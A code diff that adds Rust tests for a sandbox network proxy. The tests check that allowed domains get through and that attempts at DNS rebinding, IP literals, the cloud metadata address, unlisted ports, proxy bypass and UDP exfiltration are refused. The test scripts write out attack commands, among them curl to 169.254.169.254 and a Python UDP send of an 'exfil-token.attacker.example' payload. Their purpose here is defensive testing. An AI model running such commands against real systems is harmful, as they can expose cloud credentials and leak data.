@@ -1061,3 +1061,160 @@ fn the_project_root_is_writable_from_a_subdirectory_with_project() {
         "x\n"
     );
 }
+
+/// An HTTP origin on the host's 127.0.0.1 that answers `hello` and counts
+/// the connections it gets.
+fn origin() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    use std::io::{Read as _, Write as _};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let h = std::sync::Arc::clone(&hits);
+    std::thread::spawn(move || {
+        for mut s in listener.incoming().flatten() {
+            h.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            let mut buf = [0u8; 4096];
+            let _ = s.read(&mut buf);
+            let _ = s.write_all(
+                b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n",
+            );
+        }
+    });
+    (port, hits)
+}
+
+/// The domain proxy: an allowed name is reached over plain HTTP, CONNECT
+/// and SOCKS5; everything else is refused at the proxy and never reaches
+/// the origin — a name not allowed, an allowed name that resolves to
+/// loopback (DNS rebinding), an address literal, the cloud metadata
+/// address, a port not allowed — and going around the proxy finds no
+/// route. `--explain` names the rule.
+#[test]
+fn the_proxy_lets_allowed_domains_through_and_nothing_else() {
+    if !has("curl") {
+        return;
+    }
+    let d = dirs();
+    let (port, hits) = origin();
+    let hits_now = || hits.load(std::sync::atomic::Ordering::SeqCst);
+    let p = port.to_string();
+    let url = format!("http://localhost:{port}/");
+    // Unconfined, the origin is reached directly.
+    let free = sh(&d.proj, &format!("curl -s {url}"), false, &[]);
+    assert_eq!(String::from_utf8_lossy(&free.stdout), "hello\n");
+    let base = hits_now();
+    // Allowed (with the loopback address granted, as the origin is local).
+    let allowed = [
+        "--allow-domain",
+        "localhost",
+        "--allow-ip",
+        "127.0.0.1",
+        "--allow-port",
+        &p,
+    ];
+    for how in ["", "-p", "--socks5-hostname 127.0.0.1:3128"] {
+        let o = sh(
+            &d.proj,
+            &format!("curl -s --noproxy '' {how} {url}"),
+            true,
+            &allowed,
+        );
+        assert_eq!(
+            String::from_utf8_lossy(&o.stdout),
+            "hello\n",
+            "{how}: {o:?}"
+        );
+    }
+    assert_eq!(hits_now(), base + 3);
+    // Refused: each attack, with the rule named by --explain.
+    let no_ip = [
+        "--allow-domain",
+        "localhost",
+        "--allow-port",
+        &p,
+        "--explain",
+    ];
+    for (script, rule, extra) in [
+        (
+            format!("curl -s --noproxy '' {url}"),
+            "loopback address 127.0.0.1 for allowed name",
+            &no_ip[..],
+        ),
+        (
+            format!("curl -s --noproxy '' -p {url}"),
+            "loopback address 127.0.0.1 for allowed name",
+            &no_ip[..],
+        ),
+        (
+            format!("curl -s --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:{port}/"),
+            "ip literal",
+            &no_ip[..],
+        ),
+        (
+            "curl -s --noproxy '' http://169.254.169.254/latest/meta-data/".to_string(),
+            "ip literal",
+            &no_ip[..],
+        ),
+        (
+            format!("curl -s --noproxy '' http://example.com:{port}/"),
+            "not in allow_domains",
+            &no_ip[..],
+        ),
+        (
+            format!("curl -s --noproxy '' {url}"),
+            &format!("port {port} not in allow_ports"),
+            &[
+                "--allow-domain",
+                "localhost",
+                "--allow-ip",
+                "127.0.0.1",
+                "--explain",
+            ][..],
+        ),
+    ] {
+        let o = sh(&d.proj, &script, true, extra);
+        let err = String::from_utf8_lossy(&o.stderr);
+        assert_ne!(String::from_utf8_lossy(&o.stdout), "hello\n", "{script}");
+        assert!(err.contains(rule), "{script}: {err}");
+        assert!(err.contains("refused by the proxy"), "{script}: {err}");
+    }
+    // Around the proxy: no route to the host's loopback or anywhere.
+    let o = sh(
+        &d.proj,
+        &format!("curl -s --noproxy '*' -m 3 {url} || echo no-route"),
+        true,
+        &allowed,
+    );
+    assert_eq!(String::from_utf8_lossy(&o.stdout), "no-route\n");
+    assert_eq!(
+        hits_now(),
+        base + 3,
+        "no refused request reached the origin"
+    );
+}
+
+/// UDP to the host — here a DNS server stand-in on the host's loopback, the
+/// way a command would exfiltrate data in lookups — sends nothing from the
+/// sandbox, with or without the proxy.
+#[test]
+fn udp_and_dns_lookups_do_not_leave_the_sandbox() {
+    let d = dirs();
+    let server = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    server
+        .set_read_timeout(Some(std::time::Duration::from_millis(500)))
+        .unwrap();
+    let port = server.local_addr().unwrap().port();
+    let script = format!(
+        "python3 -c \"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    s.sendto(b'exfil-token.attacker.example', ('127.0.0.1', {port}))\nexcept OSError: pass\""
+    );
+    let mut buf = [0u8; 64];
+    sh(&d.proj, &script, false, &[]);
+    assert!(server.recv(&mut buf).is_ok(), "received unconfined");
+    for extra in [&[][..], &["--allow-domain", "example.com"][..]] {
+        sh(&d.proj, &script, true, extra);
+        assert!(
+            server.recv(&mut buf).is_err(),
+            "nothing from the sandbox: {extra:?}"
+        );
+    }
+}
